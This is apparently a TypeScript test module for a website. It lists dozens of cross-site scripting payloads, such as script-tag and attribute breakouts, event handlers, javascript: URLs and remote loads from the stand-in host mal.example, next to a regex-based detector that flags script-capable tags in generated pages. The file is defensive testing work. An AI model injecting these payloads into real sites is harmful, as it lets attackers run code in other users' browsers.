/** Payloads that try to run in another user's browser: breaking out of text, attributes, scripts and comments. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//mal.example/x.js></script>',
  '<script/src=data:,alert(1)></script>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '</script><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</select><img src=x onerror=alert(1)>',
  '</option></select><svg onload=alert(1)>',
  '--><script>alert(1)</script><!--',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onfocus=alert(1) autofocus="',
  "' onfocus=alert(1) autofocus='",
  '" onmouseover="alert(1)',
  '"/onclick=alert(1)//',
  '" style="background:url(javascript:alert(1))',
  '"><img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src=`x`onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<link rel=stylesheet href=//mal.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=//mal.example/>',
  '<style>@import "//mal.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>',
  '&#34; onfocus=alert(1) autofocus x=&#34;" onfocus=alert(1)',
  '＜script＞alert(1)＜/script＞<script>alert(1)</script>',
  '{{alert(1)}}`<script>alert(1)</script>`',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/** Like a browser: a quote delimits a value only right after its equals sign. */
const TAG = /<([a-z][^\s/>]*)((?:=\s*"[^"]*"|=\s*'[^']*'|[^>])*)>/gi;
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+))?/g;
/** Elements that public pages never contain. */
const FOREIGN = /^(iframe|object|embed|base|style|math|marquee|video|audio|template|noscript|animate|frame|applet)$/i;
const HANDLER = /^(on.+|srcdoc|formaction|style|http-equiv)$/i;
const ADDRESS = /^(href|src|action|data|xlink:href|poster)$/i;
const isOurScript = (attributes: string) =>
  / type="application\/ld\+json"/.test(attributes) || / src="\/site\/[\w-]+\.js" defer/.test(attributes);

/** Tags of a page that could run or load scripts: none on our pages. */
export function executables(page: string): string[] {
  return [...page.matchAll(TAG)]
    .filter(([, name = '', attributes = '']) => {
      if (FOREIGN.test(name) || (/^script$/i.test(name) && !isOurScript(attributes))) return true;
      return [...attributes.matchAll(ATTRIBUTE)].some(
        ([, attribute = '', value = '']) =>
          HANDLER.test(attribute) ||
          (ADDRESS.test(attribute) &&
            !/^"(?:https?:\/\/localhost|\/(?!\/)|#|tel:\+55\d+"|mailto:[\w.@-]+"|https:\/\/wa\.me\/(?:55\d+)?(?:\?text=[\w%.!~*()-]*)?")/.test(
              value,
            )),
      );
    })
    .map(([tag]) => tag);
}
